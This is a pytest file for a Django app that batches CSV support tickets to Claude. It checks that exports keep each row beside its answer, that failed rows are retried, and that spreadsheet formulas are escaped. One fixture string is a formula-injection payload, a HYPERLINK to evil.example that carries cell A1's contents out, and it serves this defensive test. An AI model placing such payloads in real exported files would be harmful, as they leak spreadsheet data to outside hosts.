"""A table of tickets, from its upload to the export with each answer beside its row."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from random import Random
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from django_claude_batches import services
from django_claude_batches.models import BatchUpload, MessageBatch, State
from django_claude_batches.testing import ClaudeEmulator, Failure
from django_claude_batches.testing.emulator.replies import Reply
from tests.admin.admin_pages import BATCHES, RESULTS, act, page, url
from tests.harness.factories import make_due

pytestmark = [pytest.mark.django_db, pytest.mark.database]

HEADER = ["Ticket no", "Subject", "Body, as it came", "", "=note", "topic"]
NAMES = ["T-1001", "T-1001", "تذكرة 7", "ann@example.org", "x" * 60, "", "-5", "😀"]
TEXTS = [
    'He said "it broke", twice',
    "two\r\nlines\nand a third\r",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "- one\n- two\n=1+1",
    "مرحبا، لا يعمل",
    "😀 👩‍👩‍👧 \u202e right to left",
    "  spaces  ",
    "-1+1;@SUM(A1:A9)\t+1",
    "",
]
SCHEMA = {
    "type": "object",
    "properties": {"topic": {"type": "string"}, "steps": {"type": "string"}},
    "required": ["topic", "steps"],
    "additionalProperties": False,
}
STEPS = "Steps:\n- unplug it\n=1+1\n- plug it in"
OUTCOMES = ["errored", "expired", "canceled", "truncated", "refused", "missing"]
KINDS: list[Callable[[str], Any]] = [
    lambda text: {"topic": text, "steps": STEPS},
    lambda text: Failure("invalid_request_error", f"=no {text}"),
    lambda text: Reply('{"topic": "cut', stop_reason="max_tokens"),
    lambda text: Reply(content=[], stop_reason="refusal"),
    lambda text: Failure("api_error", "no", while_running=True),
    lambda text: {"topic": text, "steps": "none"},
]


def tickets(count: int) -> list[list[str]]:
    """Return rows in which each text and each name occurs."""
    random = Random(7)
    rows = [[NAMES[n % len(NAMES)], *(random.choice(TEXTS) for _column in HEADER[1:])] for n in range(count)]
    for number, row in enumerate(rows):
        row[1], row[2] = TEXTS[number % len(TEXTS)], f"{number}: {TEXTS[-1 - number % len(TEXTS)]}"
    return rows


def table(rows: list[list[str]]) -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file).writerows(rows)
    return file.getvalue().encode()


def upload(client: Client, rows: list[list[str]]) -> MessageBatch:
    fields = {
        "account": "default",
        "prompt": "{Body, as it came}",
        "model": "claude-haiku-4-5",
        "name_by": "ticket no",
        "schema": json.dumps(SCHEMA),
        "keep_cells": "on",
        "label": "Tickets",
    }
    file = SimpleUploadedFile("tickets.csv", table([HEADER, *rows]))
    where = client.post(url(BATCHES, "add"), {"file": file, **fields}).url
    checked = BatchUpload.objects.get()
    assert (checked.request_count, checked.bad_rows) == (len(rows), [])
    client.post(where, {"_draft": "yes"})
    return MessageBatch.objects.get()


def export(client: Client, batch: MessageBatch, formulas: str = "as_they_are") -> list[dict[str, Any]]:
    """Return the default columns: the cells of each row, and the others by name."""
    shown = client.get(url(RESULTS, "export", batch.pk)).context["form"].initial
    fields = {"format": shown["format"], "columns": shown["columns"], "formulas": formulas}
    data = b"".join(client.post(url(RESULTS, "export", batch.pk), fields).streaming_content)  # type: ignore[attr-defined]
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert formulas != "as_they_are" or header[1 : 1 + len(HEADER)] == HEADER
    last = 1 + len(HEADER)
    return [{**dict(zip(header[last:], row[last:], strict=True)), "id": row[0], "cells": row[1:last]} for row in rows]


def sent(batch: MessageBatch, client: Client, end: Callable[[str], None]) -> MessageBatch:
    act(client, "submit", batch)
    services.advance(batch)
    if batch.state == State.IN_PROGRESS:
        end(batch.anthropic_id or "")
    make_due(batch)
    services.advance(batch)
    assert batch.state == State.INGESTED, batch.last_error
    return batch


@pytest.mark.parametrize(
    ("count", "ending"),
    [
        (5, "expired"),
        pytest.param(120, "expired", marks=pytest.mark.slow),
        pytest.param(120, "canceled", marks=pytest.mark.slow),
    ],
)
def test_every_cell_comes_back_beside_its_answer(root: Client, settings: Any, count: int, ending: str) -> None:
    settings.CLAUDE_BATCHES = {"KICK": False, "INGEST_ATTEMPTS": 1}
    rows = tickets(count)
    is_well = False

    def reply(params: Any, custom_id: str, index: int) -> Any:
        text = params["messages"][0]["content"]
        return (KINDS[0] if is_well else KINDS[index % len(KINDS)])(text)

    def end(remote_id: str) -> None:
        if ending == "canceled":
            services.advance(services.cancel(batch))
        claude.expire(remote_id)

    with ClaudeEmulator(seed=1, replies=reply, processed_share=0.8) as claude:
        batch = upload(root, rows)
        claude.fault("cut_at_line_end", after=count - 1, clean=True, times=None)
        sent(batch, root, end)
        claude.clear_faults()
        first = export(root, batch)
        is_well = True
        offered = act(root, "retry", batch, confirmed=False).content.decode()
        chosen = [outcome for outcome in OUTCOMES if f'value="{outcome}"' in offered]
        act(root, "retry", batch, outcomes=chosen, max_tokens=4096, retries_before=0)
        child = MessageBatch.objects.get(parent=batch)
        sent(child, root, lambda remote_id: claude.finish())
        again = export(root, child)

    # Every row is exported once, as it was uploaded: rows with a result in their order, then the row without.
    assert table([HEADER, *sorted(row["cells"] for row in first)]) == table([HEADER, *sorted(rows)])
    assert [row["cells"] for row in first if row["result_type"] != "missing"] == [
        row for row in rows if row not in [one["cells"] for one in first if one["result_type"] == "missing"]
    ]
    found = {row["result_type"] for row in first} | {row["stop_reason"] for row in first}
    assert found >= {"succeeded", "errored", ending, "missing", "max_tokens", "refusal"} if count > 5 else {"succeeded"}

    # Each answer is beside its row, and exactly the failed rows were retried.
    well = [row for row in first if row["result_type"] == "succeeded" and row["stop_reason"] == "end_turn"]
    failed = [row["id"] for row in first if row not in well]
    assert sorted(row["id"] for row in again) == sorted(failed)
    for row in (*well, *again):
        assert row["answer_topic"] == row["cells"][2]
        assert json.loads(row["text"])["topic"] == row["cells"][2]
        assert row["steps"] in (STEPS, "none")
    assert sorted(row["cells"] for row in (*well, *again)) == sorted(rows)

    # A person finds a row by its name, and reads the answer.
    shown = page(root, url(RESULTS), batch=child.pk, q=again[0]["id"])
    assert again[0]["id"] in shown
    result = child.results.get(custom_id=again[0]["id"])
    assert "unplug it" in page(root, url(RESULTS, "change", result.pk))

    # With apostrophes no cell begins as a formula does, and a line of a list is left alone.
    for row in export(root, child, "escaped"):
        assert not [cell for cell in (*row["cells"], row["text"], row["steps"]) if cell.lstrip()[:1] in tuple("=+-@")]
        assert row["steps"] == STEPS.replace("\n=", "\n'=")
